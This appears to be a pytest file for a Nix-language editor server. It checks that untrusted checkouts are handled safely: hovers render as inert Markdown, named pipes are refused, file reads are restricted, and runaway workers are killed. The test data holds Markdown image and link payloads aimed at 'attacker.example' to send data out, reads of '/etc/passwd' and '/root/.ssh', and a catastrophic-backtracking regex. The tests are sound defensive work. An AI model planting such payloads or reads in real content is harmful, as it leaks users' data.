"""The editor's evaluations are safe on a checkout nobody vetted (issue 15), in process.

- Markdown: values, error texts, names and flake.lock fields render as code
  (checked by rendering the hovers with markdown-it, a CommonMark parser):
  never a link, an image or HTML, whatever backticks and brackets they hold.
- The evaluator's editor options: named pipes and devices refused before they
  are opened; restricted reading (workspace folders, nothing else, symlinks
  followed to where they lead); no `currentTime`; `getEnv` gives "".
- The policy: which folders a document may read.
- The worker processes (`nixlang.ide.runner`): a regular expression that holds
  the interpreter lock in C code is stopped by killing its worker, and the
  lane goes on; the session's temporary store is removed at exit.

tests/test_lsp_safety.py drives the same points through the real server.
"""
from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from nixlang import errors as E
from nixlang import ide
from nixlang.evaluator import EvalOptions, Evaluator
from nixlang.ide import analyze, policy as P
from nixlang.ide.evaluation import evaluate
from nixlang.ide.markdown import block, code
from nixlang.ide.runner import EvalRunner
from nixlang.ide.values import Result, preview_markdown

ROOT = Path(__file__).resolve().parents[1]

# text that would be a link, an image or HTML if it were Markdown
PAYLOADS = [
    "![x](http://attacker.example/?d=secret)",
    "[click](http://attacker.example/)",
    "<img src=http://attacker.example/x>",
    "`` ![x](http://attacker.example/) ``",
    "```\n![x](http://attacker.example/)\n```",
    "````nix\n````\n![x](http://attacker.example/)",
    "a\n\n![x](http://attacker.example/)",
    "`",
    " ` ",
    "<http://attacker.example/>",
    "&lt;img src=x&gt; **bold** _em_ # heading",
]

MD = MarkdownIt("commonmark").enable("table").enable("strikethrough")


def rendered_tokens(md: str):
    out = []
    for t in MD.parse(md):
        out.append(t)
        out.extend(t.children or ())
    return out


def assert_inert(md: str, payload: str | None = None) -> None:
    """No link, image or HTML in `md`; `payload`, when given, is shown whole
    as the content of a code span or block."""
    tokens = rendered_tokens(md)
    bad = [t.type for t in tokens if t.type in ("link_open", "image", "html_inline", "html_block")]
    assert bad == [], (md, bad)
    html = MD.render(md)
    assert "<img" not in html and "<a " not in html, html
    if payload is not None:
        codes = [t.content for t in tokens if t.type in ("code_inline", "fence")]
        flat = payload.replace("\n", " ")
        assert any(c in (payload, payload + "\n", flat) for c in codes), (md, codes)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_code_spans_and_blocks_hold_any_text(payload):
    assert_inert(code(payload), payload)
    assert_inert(block(payload), payload)
    assert_inert(block(payload, ""), payload)
    assert_inert(f"- rev: {code(payload)} and more", payload)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_values_and_errors_in_hovers_are_code(payload):
    assert_inert(preview_markdown(Result("ok", payload)), payload)
    first_line = payload.strip().split("\n")[0]
    assert_inert(preview_markdown(Result("error", payload)), first_line)


@pytest.mark.parametrize("payload", [p for p in PAYLOADS if "\n" not in p])
def test_names_in_static_hovers_are_code(payload):
    name = json.dumps(payload)
    text = f"let s = {{ {name} = 1; }}; in s.{name}\n"
    an = analyze(text)
    for off in (text.index(name) + 1, text.rindex(name) + 1):
        h = ide.hover(an, off)
        assert h is not None
        assert_inert(h.markdown)


def test_flake_lock_fields_in_hovers_are_code(tmp_path):
    evil = "![x](http://attacker.example/?d=1)`"
    lock = {"nodes": {"root": {"inputs": {"dep": "dep"}},
                      "dep": {"locked": {"type": "github", "owner": evil, "repo": "r", "rev": evil,
                                         "narHash": evil, "lastModified": 0},
                              "original": {"type": "github", "owner": evil, "repo": "r", "ref": evil},
                              "inputs": {evil: [evil]}}},
            "root": "root", "version": 7}
    (tmp_path / "flake.lock").write_text(json.dumps(lock))
    nix = '{ inputs.dep.url = "github:o/r"; outputs = { self, dep }: { }; }\n'
    (tmp_path / "flake.nix").write_text(nix)
    h = ide.hover(analyze(nix, str(tmp_path / "flake.nix")), nix.index("dep.url") + 1)
    assert h is not None and "lock node" in h.markdown
    assert_inert(h.markdown)


# -- the evaluator's editor options ---------------------------------------------------------------

def editor_eval(expr: str, base: Path, **options):
    ev = Evaluator(EvalOptions(regular_files_only=True, **options))
    from nixlang.runtime.values import force
    from nixlang.source import Source
    return force(ev.eval_source(Source(expr, str(base / "doc.nix"), str(base))))


@pytest.fixture
def fifo(tmp_path):
    p = tmp_path / "pipe"
    os.mkfifo(p)
    return p


SPECIAL_READS = ["builtins.readFile {p}", "import {p}", 'builtins.hashFile "sha256" {p}',
                 "builtins.scopedImport {{ x = 1; }} {p}"]


@pytest.mark.parametrize("template", SPECIAL_READS)
def test_named_pipes_are_refused_before_they_are_opened(fifo, template):
    with pytest.raises(E.NotRegularFile) as info:
        editor_eval(template.format(p=fifo), fifo.parent)
    assert info.value.message == (f"refusing to read '{fifo}': it is a named pipe (FIFO), not a regular file "
                                  "(the editor's evaluation reads regular files only)")


@pytest.mark.parametrize("device,what", [("/dev/zero", "a character device"), ("/dev/null", "a character device")])
def test_devices_are_refused(tmp_path, device, what):
    with pytest.raises(E.NotRegularFile, match=what):
        editor_eval(f'builtins.readFile "{device}"', tmp_path)


@pytest.fixture
def workspace(tmp_path):
    ws = tmp_path / "ws"
    outside = tmp_path / "outside"
    ws.mkdir()
    outside.mkdir()
    (ws / "ok.nix").write_text("41 + 1\n")
    (outside / "secret.nix").write_text('"the secret"\n')
    (ws / "link.nix").symlink_to(outside / "secret.nix")
    return ws, outside


RESTRICTED = [
    # (expression, expected value or the path named by the error)
    ("import ./ok.nix", 42),
    ('builtins.readFile ./ok.nix', "41 + 1\n"),
    ("builtins.readFile /etc/passwd", "/etc/passwd"),
    ("builtins.readDir /root", "/root"),
    ('builtins.hashFile "sha256" /etc/passwd', "/etc/passwd"),
    ("import /etc/passwd", "/etc/passwd"),
    ("builtins.pathExists /root/.ssh", False),          # Nix: a path evaluation may not see does not exist
    ("import ./link.nix", "{outside}/secret.nix"),      # where the symlink leads is checked
    ("builtins.readFile ./link.nix", "{outside}/secret.nix"),
    ('builtins.hashFile "sha256" ./link.nix', "{outside}/secret.nix"),
    ("builtins.scopedImport { x = 1; } ./link.nix", "{outside}/secret.nix"),
]


@pytest.mark.parametrize("expr,want", RESTRICTED)
def test_restricted_reading(workspace, expr, want):
    ws, outside = workspace
    opts = dict(restrict_eval=True, allowed_paths=(str(ws),), nix_path=[])
    if isinstance(want, str) and want.startswith(("/", "{")):
        path = want.format(outside=outside)
        with pytest.raises(E.RestrictedPathError) as info:
            editor_eval(expr, ws, **opts)
        assert info.value.message == f"access to absolute path '{path}' is forbidden in restricted mode"
    else:
        assert editor_eval(expr, ws, **opts) == want


def test_no_current_time_and_no_environment(tmp_path):
    opts = dict(restrict_eval=True, allowed_paths=(str(tmp_path),), hidden_builtins=("currentTime",))
    assert editor_eval("builtins ? currentTime", tmp_path, **opts) is False
    assert editor_eval("builtins ? currentSystem", tmp_path, **opts) is True
    with pytest.raises(E.EvalError, match="undefined variable '__currentTime'"):
        editor_eval("__currentTime", tmp_path, **opts)
    assert editor_eval('builtins.getEnv "HOME"', tmp_path, **opts) == ""


# -- the policy ----------------------------------------------------------------------------------

POLICIES = [
    # (workspace folders, document, allowed folders); HOME is /home/u
    (("/src/ws",), "/src/ws/a/b.nix", ["/src/ws"]),
    ((), "/src/other/b.nix", ["/src/other"]),                     # outside every folder: its own folder
    (("/src/ws",), "/src/other/b.nix", ["/src/ws", "/src/other"]),
    ((), "/home/u/b.nix", []),                                     # never the home folder
    ((), "/home/b.nix", []),                                       # nor a folder above it
    ((), "/b.nix", []),
    ((), "/home/u/proj/b.nix", ["/home/u/proj"]),
    ((), None, []),                                                # an unsaved document
]


@pytest.mark.parametrize("folders,doc,want", POLICIES)
def test_which_folders_a_document_may_read(monkeypatch, folders, doc, want):
    monkeypatch.setenv("HOME", "/home/u")
    got = P.Policy(folders=folders).for_document(doc)
    assert got["allowed"] == want and got["restricted"] is True


def test_policy_options(monkeypatch):
    monkeypatch.delenv("NIX_PATH", raising=False)
    monkeypatch.setattr(P, "_config", None)
    p = P.Policy(folders=("/ws",), allowed_paths=("/extra",), nix_path=("nixpkgs=/np",)).for_document("/ws/a.nix")
    o = P.eval_options(p)
    assert (o.restrict_eval, o.pure_eval, o.regular_files_only, o.hidden_builtins) == (True, False, True, ("currentTime",))
    assert o.allowed_paths == ("/ws", "/extra") and o.search_path == ["nixpkgs=/np"]
    wide = P.eval_options(P.Policy(restricted=False).for_document("/ws/a.nix"))
    assert (wide.restrict_eval, wide.regular_files_only, wide.hidden_builtins) == (False, True, ())


# -- worker processes ------------------------------------------------------------------------------

# the regular expression engine backtracks for hours, holding the interpreter lock
CATASTROPHIC = 'builtins.match "(a*)*b" "' + "a" * 40 + '"'


def test_a_regex_in_c_code_is_stopped_by_killing_its_worker():
    runner = EvalRunner()
    out = evaluate(CATASTROPHIC, None, 1.0, runner=runner)
    assert out.status == "timeout"
    # a new worker took its place: the lane goes on
    assert evaluate('throw "next"', None, 60, runner=runner).status == "error"
    cancel = threading.Event()
    threading.Timer(0.3, cancel.set).start()
    assert evaluate(CATASTROPHIC, None, 120, cancel, runner=runner).status == "cancelled"
    assert evaluate("1", None, 60, runner=runner).status == "ok"
    runner.close()


def test_the_cpu_limit_ends_a_worker_nobody_stops():
    """RLIMIT_CPU is the backstop when the server cannot stop a job: the worker
    limits itself to the job's seconds, and the kernel ends it (SIGXCPU)."""
    import signal
    from nixlang.ide import runner
    w = runner._spawner.take()
    try:
        spec = {"kind": "diagnostics", "text": CATASTROPHIC, "path": None, "budget": 600, "policy": {}}
        assert w.send({"op": "job", "id": 1, "job": spec, "cpu": 1}, time.monotonic() + 60)
        end = time.monotonic() + 300            # a bound on a failure only: a loaded machine is slow
        while not w.dead and time.monotonic() < end:
            assert w.receive(1.0) is None       # no answer: the regex never ends
        assert w.dead and w.end_signal() == signal.SIGXCPU
    finally:
        runner._spawner.forget(w)
        w.kill()


def test_a_named_pipe_in_the_workspace_is_a_clear_error(fifo):
    out = evaluate("builtins.readFile ./pipe", str(fifo.parent / "doc.nix"), 60)
    assert out.status == "error"
    (d,) = out.diagnostics
    assert d.severity == "warning" and d.code == "E200"
    assert d.message.startswith(f"refusing to read '{fifo}': it is a named pipe (FIFO)")


def test_the_session_store_is_temporary(tmp_path):
    """Store objects an evaluation writes go under the session's folder, which is gone at exit."""
    script = (
        "from nixlang.ide import runner\n"
        "from nixlang.ide.evaluation import evaluate\n"
        "import os\n"
        "out = evaluate('import (builtins.toFile \"x.nix\" \"1 + 1\")', None, 60)\n"
        "print(out.status, runner._spawner.tmpdir, len(os.listdir(runner._spawner.tmpdir)))\n")
    r = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=300, cwd=str(tmp_path),
                       env=dict(os.environ, PYTHONPATH=str(ROOT)))
    status, folder, entries = r.stdout.split()
    assert status == "ok" and int(entries) >= 1, r.stderr
    assert not os.path.exists(folder)


def test_the_folder_of_a_killed_server_is_removed_by_the_next(tmp_path, monkeypatch):
    import tempfile
    from nixlang.ide import runner
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    orphan = tmp_path / f"{runner.SESSION_PREFIX}{dead.pid}-x"
    alive = tmp_path / f"{runner.SESSION_PREFIX}{os.getpid()}-y"
    for d in (orphan, alive):
        (d / "pynix-objects-1").mkdir(parents=True)
    runner._remove_orphans()
    assert not orphan.exists() and alive.exists()
